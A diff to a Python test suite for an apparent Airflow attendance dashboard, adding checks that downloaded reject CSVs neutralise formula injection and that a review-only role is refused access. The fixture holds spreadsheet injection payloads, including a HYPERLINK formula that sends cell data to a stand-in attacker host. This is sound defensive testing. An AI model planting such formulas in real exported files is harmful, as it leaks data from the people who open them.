@@ -3,6 +3,8 @@ say what the ledger holds. A real browser on a real run: test_scheduler."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
@@ -84,6 +86,11 @@ def ledger(tmp_path_factory):
                                            "reason": "unknown_student", "detail": "", "school_id": "sc1",
                                            "student_id": ["s1", "s2", "s3"], "section_id": "",
                                            "last_modified": "2026-11-19T10:00:00Z"}))
+    yesterday.rejects.append(pd.DataFrame({  # what anyone who can edit Clever's data may put in a reject's cells
+        "district": "shelbyville", "attendance_date": days[0], "reason": "missing_section",
+        "detail": ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+2", "-3", "@SUM(A1)", "ok"],
+        "school_id": "sc2", "student_id": [f"t{n}" for n in range(5)], "section_id": "\tx",
+        "last_modified": "2026-11-19T10:00:00Z"}))
     write(made, yesterday, 30, NOW - timedelta(hours=20))
     today_run = RunEntry("clever_attendance", "manual__today", "manual")
     today_run.deliveries += [
@@ -194,6 +201,32 @@ def test_a_district_page_lists_its_dates_and_serves_their_rejects(client, ledger
         missing = client.get(f"{BOARD_PREFIX}/districts/springfield/rejects/{today}.csv")
         assert missing.status_code == 404 and "rejects_retention_days" in missing.json()["detail"]
         assert client.get(BOARD_PREFIX + "/districts/nowhere").status_code == 404
+
+
+def test_a_downloaded_rejects_file_runs_no_formula_in_a_spreadsheet(client, ledger):
+    _, (yesterday, _) = ledger
+    with signed_in(client):
+        download = client.get(f"{BOARD_PREFIX}/districts/shelbyville/rejects/{yesterday}.csv")
+    details = {row["student_id"]: (row["detail"], row["section_id"]) for row in csv.DictReader(
+        io.StringIO(download.text))}
+    assert details == {"t0": ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'\tx"),
+                       "t1": ("'+1+2", "'\tx"), "t2": ("'-3", "'\tx"), "t3": ("'@SUM(A1)", "'\tx"),
+                       "t4": ("ok", "'\tx")}, "every cell that could start a formula is text"
+
+
+def test_read_access_to_the_review_dag_alone_opens_nothing(client, monkeypatch):
+    """A role that may read only clever_attendance_review (FAB can grant that; the simple auth manager of this test
+    cannot, so its answer is replaced by that role's) sees neither the board nor a district's rejects."""
+    from airflow.api_fastapi.app import get_auth_manager
+
+    manager = get_auth_manager()
+    monkeypatch.setattr(type(manager), "is_authorized_dag",
+                        lambda self, method, user, access_entity=None, details=None:
+                        details is not None and details.id == "clever_attendance_review")
+    with signed_in(client):
+        for page in ("/", "/districts/springfield", "/districts/springfield/rejects/2026-11-19.csv"):
+            answer = client.get(BOARD_PREFIX + page)
+            assert answer.status_code == 403 and "clever_attendance_daily" in answer.json()["detail"]
 
 
 def test_a_runs_tab_says_what_it_synced(client, ledger):
